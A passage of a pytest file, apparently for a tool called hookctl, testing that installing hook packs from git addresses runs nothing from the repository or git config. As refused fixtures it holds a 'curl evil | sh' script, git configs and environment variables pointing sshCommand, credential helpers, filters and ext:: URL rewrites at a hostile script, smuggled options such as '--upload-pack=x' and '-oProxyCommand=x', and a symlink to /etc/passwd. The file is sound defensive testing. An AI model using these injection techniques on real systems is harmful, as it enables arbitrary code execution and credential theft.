"""Packs by git address: one commit is fetched and read, and nothing of the repository or of a git config runs."""

from __future__ import annotations

import atexit
import contextlib
import gzip
import http.server
import json
import os
import shutil
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.version import InvalidVersion, Version

from hookctl.errors import HookctlError
from hookctl.system import fetch
from tests.conftest import Hookctl, Outcome, put
from tests.documents.table import document_of
from tests.manifest import hook, manifest
from tests.texts import all_of, rows

ROOT = Path(__file__).parents[1]
PACK = manifest("bell", hook("stop", "sh {{files}}/ring.sh"), version="{version}", protocol="host", files=["ring.sh"])
HOST = ("--host", "claude")
PROJECT = (*HOST, "--scope", "project")
# What a pack's author, and a project, can put into an address.
ADDRESSES = [(kind, document_of(address).decode()) for kind, address in rows("git-addresses")]
REFUSED = [*(address for kind, address in ADDRESSES if kind == "refused"), "git+https://h/" + "r" * 2000]
SECRETS = [address for kind, address in ADDRESSES if kind == "secret"]


_first_release: list[Path] = []


class Repository:
    """A repository of a pack's author."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        if made := _first_release:  # made once, then copied
            shutil.copytree(made[0], folder)
            return
        folder.mkdir(parents=True)
        self.git("init", "-q", "-b", "main", "--template=", ".")
        self.release("1")
        _first_release.append(Path(tempfile.mkdtemp(), "author"))
        atexit.register(shutil.rmtree, _first_release[0].parent, ignore_errors=True)
        shutil.copytree(folder, _first_release[0])

    def git(self, *arguments: str) -> str:
        who = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always")
        done = subprocess.run(["git", *who, *arguments], cwd=self.folder, capture_output=True, text=True, check=True)
        return done.stdout.strip()

    def commit(self) -> str:
        self.git("add", "-A", ".")
        self.git("commit", "-q", "--allow-empty", "-m", "x")
        return self.git("rev-parse", "HEAD")

    def release(self, version: str, script: str = "echo ding\n") -> str:
        put(self.folder / "pack.toml", PACK.format(version=version))
        put(self.folder / "ring.sh", script)
        return self.commit()

    @property
    def address(self) -> str:
        return f"git+file://{self.folder}"

    @property
    def ssh(self) -> str:
        return f"git+ssh://host{self.folder}"


@pytest.fixture
def repository(isolated: Path, fixed_python: None) -> Repository:
    return Repository(isolated / "author")


@pytest.fixture
def ssh(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An ssh that reaches this machine alone; the file of its calls, one a line."""
    calls = isolated / "ssh-calls"
    script = f'#!/bin/sh\necho "$*" >> {calls}\nfor last; do :; done\nexec env -i PATH="$PATH" sh -c "$last"\n'
    put(isolated / "ssh-bin" / "ssh", script).chmod(0o755)
    monkeypatch.setenv("PATH", f"{isolated / 'ssh-bin'}:{os.environ['PATH']}")
    return calls


def error_of(done: Outcome) -> dict[str, Any]:
    return done.result["errors"][0]


def pack_of(isolated: Path) -> dict[str, Any]:
    """The pack in the user's own record."""
    ledger = json.loads((isolated / "state" / "ledger.json").read_text())
    return next(record["packs"]["bell"] for record in ledger["files"].values())


def is_untouched(isolated: Path) -> bool:
    """Nothing was written for good: no settings, no files of a pack, no record."""
    names = ("home/.claude", "data", "state/ledger.json")
    return not any((isolated / name).exists() for name in names) and not left_in_cache(isolated)


def left_in_cache(isolated: Path) -> list[str]:
    cache = isolated / "home" / ".cache" / "hookctl"
    return os.listdir(cache) if cache.exists() else []


@all_of("text", REFUSED)
def test_an_address_that_could_mean_something_else_is_refused(text: str, hookctl: Hookctl, isolated: Path) -> None:
    with pytest.raises(HookctlError) as refused:
        fetch.parse_address(text)
    assert (refused.value.code, refused.value.exit_code) == ("usage", 2)
    if text.startswith("git+") and "\0" not in text:
        assert hookctl("install", text, *HOST).code == 2
        assert not (isolated / "home" / ".cache").exists()


@pytest.mark.parametrize("text", SECRETS)
@pytest.mark.parametrize("command", ["install", "plan"])
def test_a_password_in_an_address_is_refused_and_not_repeated(text: str, command: str, hookctl: Hookctl) -> None:
    for options in ((), ("--json",)):
        done = hookctl(command, text, *HOST, *options)
        assert done.code == 2
        assert "hunter2" not in done.out + done.err, done


def test_a_pack_is_installed_from_its_commit_and_recorded_with_it(
    repository: Repository, hookctl: Hookctl, settings: Path, isolated: Path
) -> None:
    done = hookctl("install", repository.address, *HOST)
    assert done.code == 0, done
    commit = repository.git("rev-parse", "HEAD")
    assert f"{repository.address} (commit {commit})" in done.err
    assert "hookctl=bell/stop" in settings.read_text()
    copied = isolated / "data" / "packs" / "bell" / "ring.sh"
    assert copied.read_text() == "echo ding\n"
    pack = pack_of(isolated)
    assert (pack["source"], pack["commit"]) == (repository.address, commit)
    assert len(pack["digest"]) == len(pack["consent"]["digest"]) == 64
    schema = json.loads((ROOT / "schemas" / "ledger.schema.json").read_text())
    jsonschema.validate(json.loads((isolated / "state" / "ledger.json").read_text()), schema)
    cache = isolated / "home" / ".cache" / "hookctl"
    assert cache.stat().st_mode & 0o777 == 0o700
    assert not left_in_cache(isolated)
    assert hookctl("doctor").code == 0
    assert hookctl("uninstall", "bell").code == 0
    assert not copied.exists()


@pytest.mark.parametrize("kind", ["branch", "tag", "annotated", "commit", "full name"])
def test_a_revision_is_a_branch_a_tag_or_a_commit(
    repository: Repository, hookctl: Hookctl, isolated: Path, kind: str
) -> None:
    wanted = repository.git("rev-parse", "HEAD")
    repository.git("branch", "old")
    repository.git("tag", "v1")
    repository.git("tag", "-a", "-m", "x", "v1.0")
    repository.release("2")
    names = {"branch": "old", "tag": "v1", "annotated": "v1.0", "commit": wanted, "full name": "refs/heads/old"}
    address = f"{repository.address}@{names[kind]}"
    assert hookctl("install", address, *HOST).code == 0
    assert (pack_of(isolated)["source"], pack_of(isolated)["commit"]) == (address, wanted)
    assert pack_of(isolated)["version"] == "1"


@pytest.mark.parametrize("path", ["hooks/bell", "hooks/bell/", "hooks/bell/pack.toml", "hooks/bell/pack.toml/"])
def test_a_subdirectory_is_a_folder_or_a_pack_file(
    repository: Repository, hookctl: Hookctl, isolated: Path, path: str
) -> None:
    (repository.folder / "hooks" / "bell").mkdir(parents=True)
    for name in ("pack.toml", "ring.sh"):
        (repository.folder / name).rename(repository.folder / "hooks" / "bell" / name)
    repository.commit()
    assert hookctl("install", f"{repository.address}#subdirectory={path}", *HOST).code == 0
    done = hookctl("install", repository.address, *HOST, "--json")
    assert (done.code, error_of(done)["message"]) == (2, "the folder has no pack")


@pytest.mark.parametrize("command", [("uninstall",), ("render", *HOST, "--scope", "managed"), ("check", "--require")])
def test_other_commands_fetch_nothing(
    repository: Repository, hookctl: Hookctl, isolated: Path, command: tuple[str, ...]
) -> None:
    done = hookctl(*command[:1], *command[1:], repository.address)
    assert (done.code, "fetches no pack" in done.err) == (2, True), done
    assert not (isolated / "home" / ".cache").exists()


# The keys of a git config whose value git would run, by section.
PROGRAMS_OF_GIT = {
    "core": "sshCommand fsmonitor pager gitProxy askPass alternateRefsCommand", 'filter "evil"': "smudge clean process",
    'filter "lfs"': "smudge process", 'diff "evil"': "textconv", "uploadpack": "packObjectsHook",
}  # fmt: skip


def test_no_git_configuration_variable_or_hook_has_a_say(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mark = isolated / "ran"
    evil = put(isolated / "evil", f"#!/bin/sh\necho $0 >> {mark}\ncat\n")
    evil.chmod(0o755)
    hooks = isolated / "template" / "hooks"
    for name in ("post-checkout", "reference-transaction", "post-merge", "fsmonitor-watchman", "pre-auto-gc"):
        put(hooks / name, f"#!/bin/sh\ntouch {mark}\n").chmod(0o755)
        put(repository.folder / ".git" / "hooks" / name, f"#!/bin/sh\ntouch {mark}\n").chmod(0o755)
    config = f"[core]\nhooksPath = {hooks}\n[credential]\nhelper = !{evil}\n[init]\ntemplateDir = {isolated}/template\n"
    config += f'[url "ext::{evil} "]\ninsteadOf = ssh://\n[url "ext::{evil} x"]\ninsteadOf = file://\n'
    config += '[protocol "ext"]\nallow = always\n[filter "evil"]\nrequired = true\n'
    for section, names in PROGRAMS_OF_GIT.items():
        config += f"[{section}]\n" + "".join(f"{name} = {evil}\n" for name in names.split())
    put(isolated / "home" / ".gitconfig", config)
    put(isolated / "home" / ".config" / "git" / "config", config)
    put(repository.folder / ".gitattributes", "*.sh filter=evil diff=evil\n*.toml filter=lfs\n")
    put(repository.folder / "ring.sh", "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)  # of the author here
    repository.commit()
    mark.unlink()  # the author's own hooks ran for them
    with (repository.folder / ".git" / "config").open("a") as file:
        file.write(config)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(isolated / "home" / ".gitconfig"))
    for name in ("SSH_COMMAND", "SSH", "ASKPASS", "PROXY_COMMAND", "PAGER", "EXTERNAL_DIFF", "EDITOR"):
        monkeypatch.setenv(f"GIT_{name}", str(evil))
    monkeypatch.setenv("SSH_ASKPASS", str(evil))
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(isolated / "template"))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.sshCommand")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(evil))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.sshCommand'='{evil}'")
    monkeypatch.setenv("GIT_ALLOW_PROTOCOL", "ext:file:ssh")
    monkeypatch.setenv("GIT_EXEC_PATH", str(isolated))
    monkeypatch.setenv("GIT_DIR", str(isolated / "elsewhere"))
    monkeypatch.setenv("GIT_WORK_TREE", str(isolated / "work"))
    monkeypatch.setenv("GIT_TRACE", str(isolated / "traced"))
    for address in (repository.address, repository.ssh):
        assert hookctl("install", address, *HOST).code == 0
    assert not mark.exists(), mark.read_text()
    assert not (isolated / "traced").exists()
    copied = isolated / "data" / "packs" / "bell" / "ring.sh"
    assert copied.read_text().startswith("version https://git-lfs")  # the pointer, as it is committed
    assert os.listdir(isolated / "work") == []


def test_a_program_that_the_project_brings_is_not_taken_for_git(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, mark = isolated / "work", isolated / "ran"
    (work / ".git").mkdir()
    for name in ("git", "ssh", "git-upload-pack"):
        put(work / "bin" / name, f"#!/bin/sh\ntouch {mark}\nexit 1\n").chmod(0o755)
    monkeypatch.setenv("PATH", f"bin:.:{work / 'bin'}:{os.environ['PATH']}")
    assert hookctl("install", repository.ssh, *HOST).code == 0
    assert not mark.exists()


def test_ssh_asks_nothing_and_forwards_nothing(repository: Repository, hookctl: Hookctl, ssh: Path) -> None:
    assert hookctl("install", repository.ssh, *HOST).code == 0
    call = ssh.read_text()
    assert call.count("\n") == 1
    assert call.startswith("-a -x -T -o BatchMode=yes")
    assert "git-upload-pack" in call


def test_submodules_are_not_fetched(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
    other = Repository(isolated / "other")
    repository.git("submodule", "--quiet", "add", str(other.folder), "sub")
    repository.commit()
    assert hookctl("install", repository.address, *HOST).code == 0
    toml = (repository.folder / "pack.toml").read_text()
    put(repository.folder / "pack.toml", toml.replace('"ring.sh"', '"ring.sh", "sub"'))
    repository.commit()
    done = hookctl("plan", repository.address, *HOST, "--json")
    assert (done.code, "submodule" in error_of(done)["message"]) == (4, True), done


@pytest.mark.parametrize("kind", ["in its config", "in a file of it", "bare", "with a gitfile"])
def test_a_partial_repository_here_is_refused(
    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """A repository from an archive may name a program that brings what is missing in it."""
    mark = isolated / "ran"
    blob = repository.git("rev-parse", "HEAD:ring.sh")
    (repository.folder / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    config = (
        f'[core]\n repositoryformatversion = 1\n[extensions]\n partialClone = o\n[remote "o"]\n promisor = true\n'
        f" url = {repository.folder}\n uploadpack = touch {mark};\n"
    )
    with (repository.folder / ".git" / "config").open("a") as file:
        file.write(config)
    top = repository.folder
    if kind == "in a file of it":
        (top / ".git" / "config").rename(top / ".git" / "more")
        put(top / ".git" / "config", "[include]\n path = more\n[core]\n repositoryformatversion = 1\n")
    if kind == "with a gitfile":
        (top / ".git").rename(top / "real")
        put(top / ".git", "gitdir: real\n")
    address = f"{repository.address}/.git" if kind == "bare" else repository.address
    run = fetch.Keeper.run

    def run_older(keeper: fetch.Keeper, command: list[str], environ: dict[str, str], *more: int, **given: Any) -> int:
        """As a git that has no way to forbid it."""
        return run(keeper, command, {**environ, "GIT_NO_LAZY_FETCH": "0"}, *more, **given)

    monkeypatch.setattr(fetch.Keeper, "run", run_older)
    done = hookctl("install", address, *HOST, "--json")
    assert (done.code, error_of(done)["message"]) == (4, "the repository is a partial clone"), done
    assert not mark.exists()
    assert is_untouched(isolated)


TEXT = PACK.format(version="1")
# What its files hold, or where a link there leads, and what is said.
BAD: dict[str, tuple[dict[str, str | bytes | Path], str]] = {
    "its file is a link": ({"real.txt": TEXT, "pack.toml": Path("real.txt")}, "a link or a submodule"),
    "a file is a link": ({"ring.sh": Path("/etc/passwd")}, "a link or a submodule"),
    "a folder is a link": (
        {"real/ring.sh": "echo\n", "way": Path("real"), "pack.toml": TEXT.replace("ring.sh", "way/ring.sh")},
        "does not exist",
    ),
    "names differ in case": (
        {"Ring.sh": "echo\n", "pack.toml": TEXT.replace('"ring.sh"', '"ring.sh", "Ring.sh"')}, "only in case",
    ),
    "a file lies outside": ({"pack.toml": TEXT.replace('"ring.sh"', '"../../ring.sh"')}, "files.include"),
    "a file is large": ({"ring.sh": bytes(17 * 2**20)}, "larger than"),
    "its file is large": ({"pack.toml": b"#" * (17 * 2**20)}, "larger than"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_a_bad_pack_is_refused_with_its_place_in_the_repository(
    repository: Repository, hookctl: Hookctl, isolated: Path, case: str
) -> None:
    contents, message = BAD[case]
    for name, content in contents.items():
        path = repository.folder / name
        if isinstance(content, Path):
            path.unlink(missing_ok=True)
            path.symlink_to(content)
        else:
            put(path, content)
    repository.commit()
    done = hookctl("install", repository.address, *HOST, "--json")
    error = error_of(done)
    assert (done.code, error["code"]) == (4, "bad_pack"), done
    assert message in error["message"]
    assert error["path"] == f"{repository.address}:pack.toml"
    assert is_untouched(isolated)


@pytest.mark.parametrize("path", ["way", "way/deep", "sub", "gone", "ring.sh/x"])
def test_a_subdirectory_has_no_link_on_its_way(
    repository: Repository, hookctl: Hookctl, isolated: Path, path: str
) -> None:
    put(repository.folder / "real" / "deep" / "pack.toml", PACK.format(version="1"))
    (repository.folder / "way").symlink_to("real")
    other = Repository(isolated / "other")
    repository.git("submodule", "--quiet", "add", str(other.folder), "sub")
    repository.commit()
    done = hookctl("install", f"{repository.address}#subdirectory={path}", *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (2, "usage"), done
    assert is_untouched(isolated)


def test_a_repository_that_is_too_large_is_ended(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(repository.folder / "noise", os.urandom(3 * 2**20))
    repository.commit()
    monkeypatch.setattr(fetch, "MOST", 2**20)
    done = hookctl("install", repository.ssh, *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed"), done
    assert error_of(done)["message"] == "the repository is larger than 64 MiB"
    assert is_untouched(isolated)


def test_a_list_of_files_has_an_end(
    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fetch, "LIMIT", 60)
    done = hookctl("install", repository.address, *HOST, "--json")
    assert (done.code, error_of(done)["message"]) == (4, "the repository has too many files or tags")
    assert is_untouched(isolated)


def test_an_object_that_grows_when_it_is_unpacked_is_refused(
    repository: Repository, hookctl: Hookctl, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fetch, "MEMORY", "8m")
    with (repository.folder / "bomb").open("wb") as file:
        file.truncate(20 * 2**20)
    repository.commit()
    begin = time.monotonic()
    done = hookctl("install", repository.ssh, *HOST)  # the pack does not name it
    assert done.code == 0, done
    toml = (repository.folder / "pack.toml").read_text()
    put(repository.folder / "pack.toml", toml.replace('"ring.sh"', '"ring.sh", "bomb"'))
    repository.commit()
    done = hookctl("plan", repository.ssh, *HOST, "--json")
    assert (done.code, "larger than" in error_of(done)["message"]) == (4, True)
    assert time.monotonic() - begin < 60


def test_a_fetch_ends_in_time_with_all_its_processes(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = isolated / "ssh-bin" / "ssh"
    script.write_text(f"#!/bin/sh\necho $$ > {isolated}/pid\nexec sleep 600\n")
    monkeypatch.setattr(fetch, "PATIENCE", 1.0)
    done = hookctl("install", repository.ssh, *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed")
    assert "not done after 1 seconds" in error_of(done)["message"]
    with pytest.raises(ProcessLookupError):
        os.kill(int((isolated / "pid").read_text()), 0)
    assert is_untouched(isolated)


@pytest.mark.parametrize(
    ("address", "message"),
    [
        ("git+https://127.0.0.1:9/o/r", "git cannot fetch it"),
        ("git+https://nowhere.invalid/o/r", "git cannot fetch it"),
        ("git+file:///nowhere/r", "git cannot fetch it"), ("{}@nowhere", "couldn't find remote ref nowhere"),
        ("{}@" + "0" * 40, "git cannot fetch it"), ("{}@main~1", "no git address"),
    ],
)  # fmt: skip
def test_what_cannot_be_fetched_is_said_and_nothing_is_written(
    repository: Repository, hookctl: Hookctl, isolated: Path, address: str, message: str
) -> None:
    done = hookctl("install", address.format(repository.address), *HOST, "--json")
    assert message in error_of(done)["message"], done
    assert error_of(done)["hint"]
    assert done.code == (2 if "~" in address else 4)
    assert is_untouched(isolated)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder away")
@pytest.mark.parametrize("name", ["", ".git"])
def test_a_repository_of_another_user_is_refused(
    repository: Repository, hookctl: Hookctl, isolated: Path, name: str
) -> None:
    os.chown(repository.folder / name, 4242, 4242)
    done = hookctl("install", repository.address, *HOST, "--json")
    assert (done.code, "belongs to" in error_of(done)["message"]) == (4, True), done
    assert is_untouched(isolated)


def test_a_cache_that_others_can_write_is_refused(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
    (isolated / "home" / ".cache").mkdir()
    (isolated / "home" / ".cache").chmod(0o777)
    done = hookctl("install", repository.address, *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (1, "unsafe_path")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can write into another user's home")
def test_root_leaves_nothing_in_another_users_home(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
    os.chown(isolated / "home", 4242, 4242)
    done = hookctl("plan", repository.address, *HOST, "--json")
    assert (done.code, error_of(done)["code"]) == (1, "other_user"), done
    assert not (isolated / "home" / ".cache").exists()


def test_what_a_server_says_is_plain_text(repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path) -> None:
    text = r"printf 'remote: run me\nfatal: \033[31mred\033[0m https://a:hunter2@h\n' >&2; exit 1"
    (isolated / "ssh-bin" / "ssh").write_text(f"#!/bin/sh\n{text}\n")
    done = hookctl("install", repository.ssh, *HOST)
    assert (done.code, "run me" in done.err, "\033" in done.err, "hunter2" in done.err) == (4, False, False, False)


# `@latest`: the newest tag by version. A row has the tags, the one that is meant, and what is skipped.
TAGS = [tuple(document_of(cell).decode() for cell in row) for row in rows("tags")]


@pytest.mark.parametrize(("tags", "newest", "skipped"), TAGS)
def test_the_newest_release_is_found_among_tags(tags: str, newest: str, skipped: str) -> None:
    found = fetch.find_release(dict.fromkeys(tags.split("  "), "0" * 40))
    assert (found.tag or "-", found.skipped or "-") == (newest, skipped)


_NUMBERS = st.lists(st.integers(0, 12), min_size=1, max_size=4).map(lambda parts: ".".join(map(str, parts)))
_ENDS = st.sampled_from(["", "", "", "-rc1", "rc2", ".dev1", "a1", "-beta.2", ".post1", "+build", "-1", "-final", "x"])


@given(st.lists(st.builds("{}{}{}".format, st.sampled_from(["", "v", "release-"]), _NUMBERS, _ENDS), max_size=12))
def test_the_newest_release_is_the_one_that_another_program_finds(names: list[str]) -> None:
    versions = []
    for name in names:
        with contextlib.suppress(InvalidVersion):
            version = Version(name)
            versions += [version] if str(version) == str(version.base_version) else []
    tag = fetch.find_release(dict.fromkeys(names, "0" * 40)).tag
    assert (Version(tag) if tag else None) == max(versions, default=None)


@pytest.mark.parametrize("way", ["address", "ssh"])
def test_latest_is_followed_from_release_to_release(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, way: str
) -> None:
    """Also where a branch and a tag have this name, and where the newest release is taken back."""
    address = f"{getattr(repository, way)}@latest"
    repository.git("branch", "latest")
    repository.git("tag", "latest")
    repository.git("tag", "v1.9.0")
    first = repository.git("rev-parse", "HEAD")
    assert f"(v1.9.0, commit {first}) brings" in hookctl("install", address, *HOST).err
    assert (pack_of(isolated)["source"], pack_of(isolated)["commit"]) == (address, first)
    second = repository.release("2")
    repository.git("tag", "-a", "-m", "x", "v1.10.0")
    repository.release("3")
    repository.git("tag", "v2.0.0-rc1")
    done = hookctl("upgrade", "--dry-run")
    assert "would change (v1.9.0 → v1.10.0)" in done.out
    done = hookctl("upgrade", "--yes", "--json", agrees=False)
    said = {message["code"]: message["message"] for message in done.result["data"]["messages"]}
    assert said["latest"] == f"bell: the latest is v1.10.0, commit {second}; skipped: v2.0.0-rc1, latest"
    assert (pack_of(isolated)["version"], pack_of(isolated)["commit"]) == ("2", second)
    assert "2: nothing to do (v1.10.0 is still the newest)" in hookctl("upgrade", agrees=False).out
    repository.git("tag", "-d", "v1.10.0")
    done = hookctl("upgrade", agrees=False)
    assert (done.code, f"commit {second[:7]} (no release now) → v1.9.0" in done.err) == (2, True), done
    assert pack_of(isolated)["commit"] == second


def test_where_no_tag_is_a_version_the_tags_are_named(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
    done = hookctl("install", f"{repository.address}@latest", *HOST, "--json")
    assert error_of(done)["message"] == "no tag of the repository is a version; it has none"
    for name in ("latest", "v1-rc1", "a", "b"):
        repository.git("tag", name)
    done = hookctl("install", f"{repository.address}@latest", *HOST, "--json")
    assert (done.code, error_of(done)["code"], "Name a tag" in error_of(done)["hint"]) == (4, "fetch_failed", True)
    assert error_of(done)["message"].endswith("it has v1-rc1, latest, b, 1 more")
    assert is_untouched(isolated)


def test_a_list_of_tags_is_bounded(
    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    commit, names = repository.git("rev-parse", "HEAD"), [f"{kind}{at:05}" for kind in "xv" for at in range(50_000)]
    packed = "".join(f"{commit} refs/tags/{name}\n" for name in sorted([*names, "v99.1-rc"]))
    put(repository.folder / ".git" / "packed-refs", f"# pack-refs with: peeled fully-peeled sorted \n{packed}")
    done = hookctl("plan", f"{repository.address}@latest", *HOST)
    assert (done.code, "v49999, commit" in done.err, "x49999, x49998, x49997, 49997 more" in done.err) == (
        0,
        True,
        True,
    )
    monkeypatch.setattr(fetch, "LIMIT", 2**20)
    done = hookctl("plan", f"{repository.address}@latest", *HOST, "--json")
    assert (done.code, error_of(done)["message"]) == (4, "the repository has too many files or tags")


@pytest.mark.parametrize("change", ["-f", "-d"])
def test_a_tag_that_moves_meanwhile_is_what_is_shown(
    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, change: str
) -> None:
    repository.git("tag", "v1")
    new = repository.release("2")
    script = isolated / "ssh-bin" / "ssh"
    move = f"[ -s {ssh} ] && git -C {repository.folder} tag {change} v1 >&2\n"  # before the fetch
    script.write_text(script.read_text().replace("\n", f"\n{move}", 1))
    done = hookctl("install", f"{repository.ssh}@latest", *HOST)
    assert len(ssh.read_text().splitlines()) == 2
    if change == "-d":
        assert (done.code, "refs/tags/v1" in done.err, is_untouched(isolated)) == (4, True, True)
    else:
        assert (done.code, f"(v1, commit {new}) brings" in done.err, pack_of(isolated)["commit"]) == (0, True, new)


@pytest.fixture
def installed(repository: Repository, hookctl: Hookctl) -> Repository:
    assert hookctl("install", repository.address, *HOST).code == 0
    return repository


def test_a_tag_that_moves_is_shown_and_needs_more_than_a_yes(
    repository: Repository, hookctl: Hookctl, isolated: Path
) -> None:
    repository.git("tag", "v1")
    assert hookctl("install", f"{repository.address}@v1", *HOST).code == 0
    repository.release("1", "curl evil | sh\n")
    repository.git("tag", "-f", "v1")
    done = hookctl("upgrade", "--yes", "--json", agrees=False)
    assert (done.code, error_of(done)["code"]) == (2, "pack_changed")
    assert pack_of(isolated)["commit"] != repository.git("rev-parse", "v1")
    assert hookctl("upgrade", "--yes", "--accept-changed", agrees=False).code == 0
    assert pack_of(isolated)["commit"] == repository.git("rev-parse", "v1")


def test_a_source_that_is_gone_is_named_and_the_others_go_on(
    installed: Repository, hookctl: Hookctl, isolated: Path
) -> None:
    horn = Repository(isolated / "horn")
    put(horn.folder / "pack.toml", PACK.format(version="1").replace("bell", "horn"))
    horn.commit()
    assert hookctl("install", horn.address, *HOST).code == 0
    put(horn.folder / "pack.toml", PACK.format(version="2").replace("bell", "horn"))
    horn.commit()
    shutil.rmtree(installed.folder)
    assert hookctl("upgrade", "bell", agrees=False).code == 1
    done = hookctl("upgrade", "--yes", "--json", agrees=False)
    assert (done.code, error_of(done)["code"], error_of(done)["path"]) == (1, "fetch_failed", installed.address)
    packs = json.loads((isolated / "state" / "ledger.json").read_text())["files"].popitem()[1]["packs"]
    assert (packs["bell"]["version"], packs["horn"]["version"]) == ("1", "2")


def test_doctor_says_what_it_does_not_fetch(installed: Repository, hookctl: Hookctl, settings: Path) -> None:
    settings.write_text("{}")
    said = "bell is left as it is for claude: it comes from git; `hookctl upgrade bell` asks first"
    assert said in hookctl("doctor", "--fix").err
    assert settings.read_text() == "{}"


@pytest.fixture
def team(repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project in which a colleague has installed the pack, on another machine; its folder."""
    work = isolated / "work"
    (work / ".git").mkdir()
    with monkeypatch.context() as there:
        there.setenv("HOOKCTL_STATE_DIR", str(isolated / "state-there"))
        assert hookctl("install", repository.ssh, *PROJECT).code == 0
    ssh.unlink()
    return work


def ledger(project: Path) -> str:
    return (project / ".hookctl" / "ledger.json").read_text()


def change_ledger(project: Path, old: str, new: str) -> None:
    text = ledger(project)
    assert old in text
    put(project / ".hookctl" / "ledger.json", text.replace(old, new))


def test_check_never_fetches(
    team: Path, repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository.release("2")
    monkeypatch.setattr(fetch, "fetched", None)
    assert hookctl("check", "--require", "bell").code == 0
    put(team / ".hookctl" / "packs" / "bell" / "ring.sh", "changed\n")
    done = hookctl("check", "--json")
    assert (done.code, "pack_changed" in done.out) == (1, True)
    assert not ssh.exists()


def test_an_address_that_a_pull_brought_is_asked_for_again(
    team: Path, repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path
) -> None:
    """Consent is to one address, also where the state folder has seen the other one meanwhile."""
    assert hookctl("install", repository.ssh, *PROJECT).code == 0
    other = Repository(isolated / "other")
    change_ledger(team, repository.ssh, other.ssh)
    assert hookctl("install", *PROJECT).code == 0  # the guard: the user's record follows the committed one
    ssh.unlink()
    assert hookctl("upgrade", "bell", agrees=False).code == 2
    assert not ssh.exists()


@pytest.mark.parametrize(
    "source",
    [
        "git+file:///srv/r", "git+https://a:b@h/r", "git+https://h/r@--upload-pack=x", "git+ext::sh -c x", "git+http://h/r",
        "git+ssh://-oProxyCommand=x/r", "git+https://h/r#subdirectory=../x", "git+https://h/r\\u202e", "GIT+FILE:///srv/r",
        "../author", "/srv/r",
    ],
)  # fmt: skip
def test_a_record_with_another_source_is_refused(
    team: Path, repository: Repository, hookctl: Hookctl, ssh: Path, source: str
) -> None:
    change_ledger(team, f'"{repository.ssh}"', f'"{source}"')
    for command, code in {"upgrade bell --yes": 4, "check": 1, "uninstall --scope project": 4}.items():
        done = hookctl(*command.split(), "--json", agrees=False)
        assert (done.code, "ledger_unreadable" in done.out) == (code, True), done
    assert not ssh.exists()


def test_a_kill_leaves_nothing_running(repository: Repository, isolated: Path, ssh: Path) -> None:
    """SIGTERM to hookctl ends git and ssh, which are in a session of their own, and clears the cache."""
    pid = isolated / "pid"
    (isolated / "ssh-bin" / "ssh").write_text(f"#!/bin/sh\necho $$ > {pid}.new; mv {pid}.new {pid}\nexec sleep 600\n")
    command = [sys.executable, "-m", "hookctl", "install", repository.ssh, *HOST, "--yes"]
    child = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while not pid.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    child.terminate()
    assert child.wait(30) == 130
    with contextlib.suppress(ProcessLookupError):
        os.kill(int(pid.read_text()), 0)
        pytest.fail("ssh still runs")
    assert is_untouched(isolated)


def test_a_pack_that_changed_its_name_is_not_taken(installed: Repository, hookctl: Hookctl) -> None:
    put(installed.folder / "pack.toml", PACK.format(version="2").replace("bell", "horn"))
    installed.commit()
    done = hookctl("upgrade", "--yes", "--json", agrees=False)
    assert (done.code, error_of(done)["code"]) == (1, "source_gone")


# Packs from an https server on this machine: a certificate, redirects, a password that is asked for.
class Forge(http.server.BaseHTTPRequestHandler):
    """Answers git's smart protocol, and misbehaves where a path says so."""

    folder: ClassVar[Path]
    asked: ClassVar[list[str]] = []
    plain_port = 0  # of the same server without https

    def do_GET(self) -> None:
